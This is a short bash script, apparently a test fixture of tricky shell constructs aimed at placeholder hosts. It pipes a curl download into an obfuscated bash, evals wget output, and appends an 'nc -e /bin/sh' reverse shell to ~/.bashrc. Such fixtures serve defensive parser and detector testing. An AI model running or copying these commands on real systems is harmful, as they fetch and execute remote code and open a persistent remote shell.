#!/usr/bin/env bash
set -euo pipefail
A=1 /usr/bin/curl -fsSL "https://example.invalid/$NAME" | sudo -u nobody b'as'h -s -- \
  --yes
eval "$(wget -qO- https://example.invalid/x)" && source <(fetch `cat list`)
sh -c 'echo $(id) | nc -e /bin/sh 192.0.2.1 1' >> ~/.bashrc 2>&1
cat <<'END' > run.sh
perl -e 1
END
bash run.sh
python3 -m pip install x # comment | sh
